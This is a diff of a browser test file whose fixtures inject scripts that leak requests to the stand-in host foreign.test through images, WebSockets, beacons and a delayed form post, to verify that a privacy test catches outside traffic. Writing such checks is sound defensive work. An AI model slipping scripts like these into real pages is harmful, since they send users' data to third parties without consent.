@@ -31,16 +31,21 @@ const LEAKS = {
   image: "new Image().src = 'http://foreign.test/image.png';",
   WebSocket: "try { new WebSocket('ws://foreign.test/socket'); } catch {}",
   beacon: "navigator.sendBeacon('http://foreign.test/beacon', 'x');",
-  form: `addEventListener('DOMContentLoaded', () => {
-    const frame = Object.assign(document.createElement('iframe'), { name: 'elsewhere' });
-    const form = Object.assign(document.createElement('form'), { action: 'http://foreign.test/form', method: 'post', target: 'elsewhere' });
-    document.body.append(frame, form);
-    form.submit();
-  });`,
+  // Once the photo was looked at, as the page goes away with it; in Chromium, as what a driven Firefox makes of it reaches no proxy.
+  form: `const timer = setInterval(() => {
+    if (!document.querySelector('[data-testid="prediction"][data-state="done"]')) return;
+    clearInterval(timer);
+    setTimeout(() => {
+      const form = Object.assign(document.createElement('form'), { action: 'http://foreign.test/form', method: 'post' });
+      document.body.append(form);
+      form.submit();
+    }, 500);
+  }, 50);`,
 };
 
 for (const [name, leak] of Object.entries(LEAKS)) {
-  test(`the test above fails when a foreign ${name} is added and the policy taken away`, { seconds: 120 }, async (scene) => {
+  const browsers = name === 'form' ? ['chromium'] : ['chromium', 'firefox'];
+  test(`the test above fails when a foreign ${name} is added and the policy taken away`, { seconds: 120, browsers }, async (scene) => {
     const site = scene.site({ stripPolicy: true, html: (text) => text.replace('</head>', `<script>${leak}</script></head>`) });
     const { tab, foreign } = await visit(scene, site);
     tab.mayReach = true;
